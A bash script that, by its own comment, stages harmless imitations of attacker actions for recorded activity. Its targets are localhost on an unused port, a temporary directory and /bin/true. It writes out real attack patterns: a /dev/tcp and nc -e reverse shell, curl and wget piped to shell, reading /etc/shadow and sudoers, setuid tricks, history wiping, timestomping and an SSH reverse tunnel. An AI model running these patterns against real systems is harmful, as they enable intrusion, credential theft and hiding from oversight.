#!/bin/bash
# What attackers do, harmless here, to be mixed into recorded work: nothing leaves the machine, and
# only files of a directory of its own are changed.
work=$(mktemp -d "${TMPDIR:-/tmp}/acts.XXXXXX")
trap 'rm -rf "$work"' EXIT
cd "$work" || exit 1
port=18797 # where nobody listens

sh -c 'cat /etc/shadow >/dev/null'
timeout 2 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
sh -c "curl -s http://127.0.0.1:$port/x.sh | sh"
bash -c "wget -qO- http://127.0.0.1:$port/x.sh | bash" 2>/dev/null
sh -c 'echo dHJ1ZQ== | base64 -d | sh'
cp /bin/true ./.cache && chmod u+s ./.cache && ./.cache
cp /bin/true /dev/shm/.worker && chmod +x /dev/shm/.worker && /dev/shm/.worker
rm -f /dev/shm/.worker
find /usr/bin -maxdepth 0 -perm -4000 >/dev/null
python3 -c 'import pty; pty.spawn("/bin/true")' >/dev/null 2>&1
perl -e 'exec "/bin/sh", "-c", "true"' 2>/dev/null
awk 'BEGIN {system("/bin/sh -c true")}'
ln -sf /dev/null .bash_history && rm -f .bash_history
bash -c 'unset HISTFILE; export HISTFILESIZE=0; history -c'
touch -d '2 years ago' ./.cache
crontab "$work/none" 2>/dev/null
sh -c 'cat /etc/passwd /etc/group >/dev/null; whoami; id; uname -a; hostname; w' >/dev/null 2>&1
sh -c 'grep -r password= /etc/hosts' >/dev/null
sh -c 'ps aux; ss -tlnp; cat /etc/sudoers' >/dev/null 2>&1
dd if=/dev/zero of=./wiped bs=4k count=1 2>/dev/null && shred -u ./wiped
timeout 1 nc -e /bin/sh 127.0.0.1 $port 2>/dev/null
timeout 1 ssh -o BatchMode=yes -o ConnectTimeout=1 -R 18796:127.0.0.1:22 -p $port 127.0.0.1 2>/dev/null
exit 0
